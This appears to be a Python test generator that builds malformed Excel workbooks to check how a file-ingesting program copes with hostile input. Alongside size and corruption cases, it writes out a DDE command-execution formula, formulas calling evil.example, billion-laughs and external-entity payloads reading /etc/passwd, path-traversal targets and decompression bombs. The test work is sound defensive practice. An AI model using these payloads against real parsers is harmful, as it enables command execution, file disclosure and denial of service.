"""Workbooks that no spreadsheet program would write, made part by part."""

import csv
import io
import os
import zipfile
from xml.sax.saxutils import escape

from make import PAYLOADS, UNIT, Case, form, text_of, write

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def column(number):
    return (column(number // 26 - 1) if number > 25 else "") + chr(65 + number % 26)


def inline(text):
    return f'<is><t xml:space="preserve">{escape(text)}</t></is>'


def rows(text):
    """The cells of a sheet like the form, as rows of XML."""
    for number, fields in enumerate(csv.reader(io.StringIO(text)), 1):
        cells = "".join(f'<c r="{column(i)}{number}"><v>{field}</v></c>' if field.isdigit() and i else
                        f'<c r="{column(i)}{number}" t="inlineStr">{inline(field)}</c>' for i, field in enumerate(fields))
        yield f'<row r="{number}">{cells}</row>'


def parts(text):
    """Every part of a sound workbook, by name."""
    types = "".join(f'<Override PartName="/xl/{part}.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                    f'spreadsheetml.{kind}+xml"/>' for part, kind in
                    {"workbook": "sheet.main", "worksheets/sheet1": "worksheet", "sharedStrings": "sharedStrings"}.items())
    relation = '<Relationship Id="r{}" Type="' + REL + '/{}" Target="{}"/>'
    return {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType='
                               f'"application/vnd.openxmlformats-package.relationships+xml"/>{types}</Types>',
        "_rels/.rels": f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">' +
                       relation.format(1, "officeDocument", "xl/workbook.xml") + "</Relationships>",
        "xl/workbook.xml": f'{HEAD}<workbook {MAIN} xmlns:r="{REL}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">' +
                                      relation.format(1, "worksheet", "worksheets/sheet1.xml") +
                                      relation.format(2, "sharedStrings", "sharedStrings.xml") + "</Relationships>",
        "xl/worksheets/sheet1.xml": f'{HEAD}<worksheet {MAIN}><sheetData>{"".join(rows(text))}</sheetData></worksheet>',
        "xl/sharedStrings.xml": f"{HEAD}<sst {MAIN}><si><t>甲</t></si></sst>",
    }


def zipped(all_parts, extra=(), compress=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compress) as archive:
        for name, text in [*all_parts.items(), *extra]:
            archive.writestr(name, text)
    return file.getvalue()


def workbook(change=None, extra=(), after=None, name=f"{UNIT}.xlsx"):
    """The unit sends a workbook: its parts as `change` makes them, its bytes as `after` makes them."""
    def put(folder):
        all_parts = parts(text_of(folder))
        if change:
            change(all_parts)
        data = zipped(all_parts, extra)
        form(folder).unlink()
        write(form(folder).parent / name, after(data) if after else data)
    return put


def sheet(old, new):
    """In the XML of the sheet, the first `old` is `new`; what is large is made when it is needed."""
    def change(all_parts):
        text = all_parts["xl/worksheets/sheet1.xml"]
        assert old in text, old
        all_parts["xl/worksheets/sheet1.xml"] = text.replace(old, new() if callable(new) else new, 1)
    return workbook(change)


def part(name, text):
    def change(all_parts):
        path = f"xl/{name}"
        all_parts[path] = text(all_parts[path]) if callable(text) else text
    return workbook(change)


def without(name):
    return workbook(lambda all_parts: all_parts.pop(name))


def rows_and_cells():
    for number, row in enumerate(["9223372036854775807", "9223372036854775808", "4294967296", "2147483648", "1048577", "0", "-1", "abc", "", "1.5"]):
        yield f"row-{number}-{row}", sheet('<row r="8">', f'<row r="{row}">')
    for number, cell in enumerate(["XFE8", "ZZZZZZZZZZZZZZ8", "A0", "A99999999999999999999", "A", "8", "", "é8", "A-1", "$A$8", "b8"]):
        yield f"cell-{number}-{cell}", sheet('<c r="B8">', f'<c r="{cell}">')
    for number, value in enumerate(["1E400", "1E-9223372036854775808", "NaN", "-0", "1E-320", "9" * 5000, "", "31.000000000000004", "0.1E2", " 31 ", "31&#x9;"]):
        yield f"value-{number}", sheet("<v>31</v>", f"<v>{value}</v>")
    for number, index in enumerate(["-1", "1", "99999999999999999999", "abc", "", "4294967296"]):
        yield f"shared-index-{number}", sheet('<c r="B8"><v>31</v>', f'<c r="B8" t="s"><v>{index}</v>')
    for kind in ("b", "e", "d", "str", "n", "nonsense"):
        yield f"type-{kind}", sheet('<c r="B8"><v>31</v>', f'<c r="B8" t="{kind}"><v>#REF!</v>')
    for name, formula in {"hyperlink": 'HYPERLINK("http://evil.example/","点")', "dde": "cmd|' /C calc'!A0", "long": "SUM(" * 8000, "webservice": 'WEBSERVICE("http://evil.example")'}.items():
        yield f"formula-{name}", sheet('<c r="B8"><v>31</v>', f'<c r="B8"><f>{formula}</f><v>31</v>')
        yield f"formula-{name}-no-value", sheet('<c r="B8"><v>31</v>', f'<c r="B8"><f>{formula}</f>')
    for key, text in PAYLOADS.items():
        clean = "".join(f"_x{ord(c):04X}_" if ord(c) < 32 or c in "\ufffe\uffff" else escape(c) for c in text)
        yield f"text-{key}", sheet('<c r="B8"><v>31</v>', f'<c r="B8" t="inlineStr"><is><t>{clean}</t></is>')


def sizes():
    end = "</sheetData>"
    yield "million-empty-rows", sheet(end, lambda: "".join(f'<row r="{n}"/>' for n in range(1000, 1_000_000)) + end)
    yield "last-row", sheet(end, lambda: f'<row r="1048576"><c r="A1048576"><v>1</v></c></row>{end}')
    yield "last-cell", sheet(end, lambda: f'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>{end}')
    yield "wide-rows", sheet(end, lambda: "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(100, 3000)) + end)
    yield "full-wide-row", sheet(end, lambda: '<row r="999">' + "".join(f'<c r="{column(n)}999"><v>1</v></c>' for n in range(16384)) + "</row>" + end)
    yield "same-row-100000", sheet(end, lambda: '<row r="8"><c r="B8"><v>31</v></c></row>' * 100_000 + end)
    yield "same-cell-100000", sheet('<c r="B8"><v>31</v></c>', lambda: '<c r="B8"><v>31</v></c>' * 100_000)
    yield "rows-backwards", sheet(end, lambda: "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(60_000, 1000, -1)) + end)
    yield "sheet-bomb", sheet(end, lambda: " " * (300 << 20) + end)
    yield "shared-bomb", part("sharedStrings.xml", lambda _: f"{HEAD}<sst {MAIN}><si><t>{'0' * (300 << 20)}</t></si></sst>")
    yield "million-shared", part("sharedStrings.xml", lambda _: f"{HEAD}<sst {MAIN}>{'<si><t>a</t></si>' * 1_000_000}</sst>")

    def repeated(all_parts):
        all_parts["xl/sharedStrings.xml"] = f"{HEAD}<sst {MAIN}><si><t>{'第' * 350_000}</t></si></sst>"
        cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1000, 3000))
        all_parts["xl/worksheets/sheet1.xml"] = all_parts["xl/worksheets/sheet1.xml"].replace(end, cells + end)
    yield "shared-string-repeated", workbook(repeated)
    for name, merges in {"everything": ["A1:XFD1048576"], "inverted": ["Z99:A1"], "garbage": ["", ":", "A:A", "1:1", "A1:", "ZZZZZ1:A999999999999"],
                         "overlapping": ["A1:C30", "B2:D40", "A1:C30"], "100000": [f"A{n}:B{n}" for n in range(1, 100_001)],
                         "over-rows": ["A8:A9", "B8:D8"], "tall": [f"A{n}:C1048576" for n in range(1, 2000)]}.items():
        yield f"merged-{name}", sheet(end, lambda merges=merges: end + "<mergeCells>" + "".join(
            f'<mergeCell ref="{merge}"/>' for merge in merges) + "</mergeCells>")


def markup():
    laughs = '<!DOCTYPE x [<!ENTITY a "哈">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(10)) + "]>"
    for name, path in {"sheet": "worksheets/sheet1.xml", "strings": "sharedStrings.xml", "workbook": "workbook.xml"}.items():
        yield f"laughs-{name}", part(path, lambda text: text.replace("?>\n", "?>" + laughs, 1).replace("甲", "&k;").replace("表", "&k;"))
        yield f"outside-entity-{name}", part(path, lambda text: text.replace(
            "?>\n", '?><!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd">]>', 1).replace("甲", "&p;").replace("表", "&p;"))
        yield f"cut-{name}", part(path, lambda text: text[:len(text) // 2])
        yield f"empty-{name}", part(path, "")
        yield f"missing-{name}", without(f"xl/{path}")
        yield f"nested-{name}", part(path, lambda text: text.replace(">", ">" + "<x>" * 50_000, 2))
        yield f"utf16-{name}", part(path, lambda text: text.replace("UTF-8", "UTF-16").encode("utf-16"))
        yield f"nul-{name}", part(path, lambda text: text.replace("<", "\0<", 30))
    yield "attribute-1mb", sheet('<row r="8">', f'<row r="8" x="{"y" * (1 << 20)}">')
    yield "100000-attributes", sheet('<row r="8">', '<row r="8" ' + " ".join(f'x{n}="1"' for n in range(100_000)) + ">")
    yield "comment-1mb", sheet("<sheetData>", f"<!--{'x' * (1 << 20)}--><sheetData>")
    names = {"long": "表" * 10_000, "control": "甲&#x1;", "markup": "&lt;script&gt;", "empty": "", "formula": "=1+1", "bidi": "甲\u202e", "newline": "甲&#10;乙", "quote": "a'b!c"}
    for name, title in names.items():
        yield f"sheet-name-{name}", part("workbook.xml", lambda text, title=title: text.replace("表", title))
    yield "1000-sheets", part("workbook.xml", lambda text: text.replace("</sheets>", "".join(
        f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(2, 1001)) + "</sheets>"))
    for name, target in {"outside": "../../../../etc/passwd", "url": "http://evil.example/x.xml", "itself": "workbook.xml", "absolute": "/etc/passwd", "empty": ""}.items():
        yield f"target-{name}", part("_rels/workbook.xml.rels", lambda text, target=target: text.replace("worksheets/sheet1.xml", target))
    yield "no-content-types", without("[Content_Types].xml")
    yield "no-rels", without("_rels/.rels")
    yield "no-workbook-rels", without("xl/_rels/workbook.xml.rels")


def containers():
    yield "sound", workbook()
    for size in (0, 1, 4, 30, 100, 1000):
        yield f"cut-{size}", workbook(after=lambda data, size=size: data[:size])
    yield "cut-end", workbook(after=lambda data: data[:-30])
    yield "flipped", workbook(after=lambda data: data[:200] + bytes([data[200] ^ 255]) + data[201:])
    yield "crc", workbook(after=lambda data: data.replace(data[14:18], b"abcd"))
    yield "size-lies", workbook(after=lambda data: data.replace(data[22:26], b"\xff\xff\xff\x7f"))
    yield "prefix", workbook(after=lambda data: b"#!/bin/sh\n" + data)
    yield "suffix", workbook(after=lambda data: data + b"\0" * (1 << 20))
    yield "duplicates", workbook(extra=[("xl/worksheets/sheet1.xml", f"{HEAD}<worksheet {MAIN}/>")] * 3)
    yield "traversal", workbook(extra=[("../../../outside.md", "x"), ("/etc/x", "x"), ("C:\\x", "x")])
    yield "20000-parts", workbook(extra=[(f"x/{n}", "") for n in range(20_000)])
    yield "random", workbook(after=lambda _: b"PK\x03\x04" + bytes(n * 7919 % 251 for n in range(50_000)))
    yield "as-csv", workbook(name=f"{UNIT}.csv")
    yield "as-xls", workbook(name=f"{UNIT}.xls")
    yield "as-macro", workbook(extra=[("xl/vbaProject.bin", b"\0" * 5000)], name=f"{UNIT}.xlsm")
    yield "folder", lambda folder: (form(folder).unlink(), os.mkdir(form(folder).parent / f"{UNIT}.xlsx"))


def cases():
    groups = {"cells": rows_and_cells, "sizes": sizes, "markup": markup, "container": containers}
    return [Case(f"workbook-{group}/{name}", put) for group, made in groups.items() for name, put in made()]
